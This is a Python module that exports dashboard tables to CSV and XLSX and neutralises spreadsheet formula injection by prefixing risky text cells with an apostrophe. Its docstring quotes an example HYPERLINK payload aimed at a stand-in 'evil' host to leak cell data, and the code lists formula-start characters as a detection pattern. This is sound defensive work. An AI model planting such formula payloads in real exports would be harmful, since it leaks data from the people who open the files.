"""Every dashboard table as CSV or XLSX, with spreadsheet formula injection neutralised.

Why: comments and post texts are written by strangers. A cell starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is run as a formula by Excel, LibreOffice and Google
Sheets (``=HYPERLINK("http://evil/?"&A1)`` leaks data, DDE payloads run programs). OWASP's
"CSV Injection" advice: prefix such text cells with an apostrophe, which spreadsheets show as
text. Numbers stay numbers (a negative *number* is not text and is not touched).

Spreadsheets skip leading blanks and line breaks before they look for a formula, and some
(LibreOffice, Excel with East Asian input) read full-width ``＝`` as ``=``; so the test looks at
the first character that is not white space or a control character, NFKC-normalised.

CSV is UTF-8 with a byte-order mark so Excel opens Vietnamese, Persian and Chinese text
correctly. XLSX is written by xlsxwriter with its own string-to-formula/URL/number conversions
switched off, so a cell is only ever a literal string or number.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
import unicodedata
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any, NamedTuple

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: characters a spreadsheet starts a formula with once NFKC has folded full-width forms
_FORMULA_CHARS = frozenset("=+-@\u2212")
MAX_EXPORT_ROWS = 200_000
_FILENAME = re.compile(r"[^A-Za-z0-9._-]+")


class Col(NamedTuple):
    """A column: row key, translated header, and how the page shows it (``text``, ``int``,
    ``num``, ``pct``, ``date``, ``datetime``, ``bool``, ``post``: a link to the post)."""

    key: str
    header: str
    fmt: str = "text"


@dataclass
class Table:
    """A table a page shows and exports. ``sortable``/``sort`` and ``page`` (offset, limit,
    total) are for the page only; exports always hold every row of the current filters."""

    name: str
    title: str
    columns: list[Col]
    rows: list[dict[str, Any]] = field(default_factory=list)
    sortable: tuple[str, ...] = ()
    sort: str = ""
    page: tuple[int, int, int] | None = None
    #: rows to export when the page shows only a slice
    all_rows: list[dict[str, Any]] | None = None
    #: False for a table a GET cannot rebuild (a posted draft's matches): no download links
    exportable: bool = True

    @property
    def keys(self) -> list[str]:
        return [c.key for c in self.columns]

    @property
    def export_rows(self) -> list[dict[str, Any]]:
        return self.rows if self.all_rows is None else self.all_rows


def neutralise(value: Any) -> Any:
    """``value`` safe for a spreadsheet cell: dangerous text gets a leading apostrophe;
    dates become ISO text; NaN/inf become empty."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return "" if isinstance(value, float) and not math.isfinite(value) else value
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    if isinstance(value, dict | list | tuple):
        value = (
            ", ".join(f"{k}={v}" for k, v in value.items())
            if isinstance(value, dict)
            else ", ".join(str(v) for v in value)
        )
    text = str(value)
    if text.startswith(FORMULA_START) or _formula_like(text):
        return "'" + text
    return text


def _formula_like(text: str) -> bool:
    """The first character that is not blank or a control character starts a formula
    (``" =1+1"``, ``"\\n=1+1"``, full-width ``"＝1+1"``)."""
    for ch in text[:64]:
        if ch.isspace() or unicodedata.category(ch) in {"Cc", "Cf", "Zs"}:
            continue
        return unicodedata.normalize("NFKC", ch)[:1] in _FORMULA_CHARS
    return False


def _cells(table: Table) -> list[list[Any]]:
    return [
        [neutralise(row.get(k)) for k in table.keys] for row in table.export_rows[:MAX_EXPORT_ROWS]
    ]


def to_csv(table: Table) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(c.header) for c in table.columns])
    writer.writerows(_cells(table))
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def to_xlsx(table: Table) -> bytes:
    import xlsxwriter

    out = io.BytesIO()
    book = xlsxwriter.Workbook(
        out,
        {
            "in_memory": True,
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
        },
    )
    sheet = book.add_worksheet(_FILENAME.sub("_", table.name)[:31] or "table")
    bold = book.add_format({"bold": True})
    for c, col in enumerate(table.columns):
        sheet.write_string(0, c, str(neutralise(col.header)), bold)
    for r, row in enumerate(_cells(table), start=1):
        for c, value in enumerate(row):
            if isinstance(value, int | float):
                sheet.write_number(r, c, value)
            else:
                sheet.write_string(r, c, value)
    book.close()
    return out.getvalue()


FORMATS: dict[str, tuple[str, Any]] = {
    "csv": ("text/csv; charset=utf-8", to_csv),
    "xlsx": ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", to_xlsx),
}


def filename(parts: Sequence[str], fmt: str) -> str:
    """An ASCII file name from ``parts`` (workspace, page, table) — never user text raw."""
    stem = "-".join(_FILENAME.sub("_", p).strip("_") for p in parts if p) or "export"
    return f"{stem[:120]}.{fmt}"


__all__ = [
    "FORMATS",
    "FORMULA_START",
    "MAX_EXPORT_ROWS",
    "Col",
    "Table",
    "filename",
    "neutralise",
    "to_csv",
    "to_xlsx",
]
